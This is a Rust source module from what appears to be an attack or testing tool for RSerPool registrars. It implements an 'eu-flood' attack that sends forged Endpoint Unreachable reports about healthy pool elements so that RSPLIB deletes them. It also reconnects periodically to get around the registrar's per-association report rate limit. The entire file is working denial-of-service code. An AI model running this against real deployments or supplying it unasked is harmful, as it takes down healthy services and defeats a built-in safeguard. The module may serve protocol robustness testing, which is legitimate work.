//! `eu-flood` (RFC 5355 §2.13): Endpoint Unreachable reports for healthy
//! PEs at a registrar. RSPLIB deletes a PE at the `-maxbadpereports`th
//! report (default 3); `-maxeurate` limits reports per association.

use anyhow::{bail, Result};
use client_core::policy::Rng;
use client_core::wire::PoolElementId;
use rserpool_sctp::SctpAssociation;

use super::{choose, Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_pe_id};
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Registrars' ASAP endpoints.
    #[command(flatten)]
    pub common: Common,
    /// PE to report (hex 0x… or decimal); repeat. Default: PEs of the
    /// pool as the first target resolves them.
    #[arg(long = "pe-id", value_name = "ID", value_parser = parse_pe_id)]
    pub pe_ids: Vec<u32>,
    /// Without --pe-id: how many of the resolved PEs to report (chosen by
    /// the seed). Default: all.
    #[arg(long, value_name = "N")]
    pub victims: Option<usize>,
    /// Open a fresh association after this many reports (a registrar's
    /// -maxeurate counts per association). 0: one association per target.
    #[arg(long = "reconnect-every", value_name = "N", default_value_t = 0)]
    pub reconnect_every: u64,
}

struct EuFlood {
    assocs: Vec<SctpAssociation>,
    targets: Vec<std::net::SocketAddr>,
    victims: Vec<u32>,
    pool: client_core::wire::PoolHandle,
    reconnect_every: u64,
    sent_on: Vec<u64>,
}

impl Attack for EuFlood {
    async fn act(&mut self, seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
        let n = self.victims.len() as u64;
        let victim = self.victims[(seq % n) as usize];
        // One round over the victims per target, then the next target.
        let t = ((seq / n) % self.targets.len() as u64) as usize;
        let mut reconnected = false;
        if self.reconnect_every > 0 && self.sent_on[t] >= self.reconnect_every {
            self.assocs[t] = net::connect(None, self.targets[t]).await?;
            self.sent_on[t] = 0;
            reconnected = true;
        }
        net::send_asap(
            &self.assocs[t],
            &messages::endpoint_unreachable(&self.pool, victim),
        )
        .await?;
        self.sent_on[t] += 1;
        Ok((
            "endpoint-unreachable",
            fields! {
                "pe_id" => PoolElementId(victim).to_string(),
                "target" => self.targets[t].to_string(),
                "new_association" => reconnected,
            },
        ))
    }
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let targets = ctx.targets.clone();
    let pool = ctx.pool.clone();
    let pe_ids = a.pe_ids.clone();
    let want = a.victims;
    let mut rng = Rng::new(ctx.rng.next_u64());
    let Some((assocs, victims)) = ctx
        .setup(async {
            let mut assocs = Vec::new();
            for t in &targets {
                assocs.push(net::connect(None, *t).await?);
            }
            let victims = if pe_ids.is_empty() {
                let ids: Vec<u32> = net::resolve_all(&assocs[0], &pool)
                    .await?
                    .iter()
                    .map(|e| e.id.0)
                    .collect();
                choose(&ids, want.unwrap_or(ids.len()), &mut rng)
            } else {
                pe_ids
            };
            if victims.is_empty() {
                bail!("no PE to report: pool {pool} is empty and no --pe-id given");
            }
            Ok((assocs, victims))
        })
        .await
    else {
        return Ok(());
    };
    ctx.out.event(
        "victims",
        victims
            .iter()
            .map(|v| PoolElementId(*v).to_string())
            .collect::<Vec<_>>(),
    );
    let mut attack = EuFlood {
        sent_on: vec![0; assocs.len()],
        assocs,
        targets,
        victims,
        pool,
        reconnect_every: a.reconnect_every,
    };
    let f = super::run_paced(&mut attack, &mut ctx, false).await;
    super::done(&ctx, f, serde_json::Map::new());
    Ok(())
}
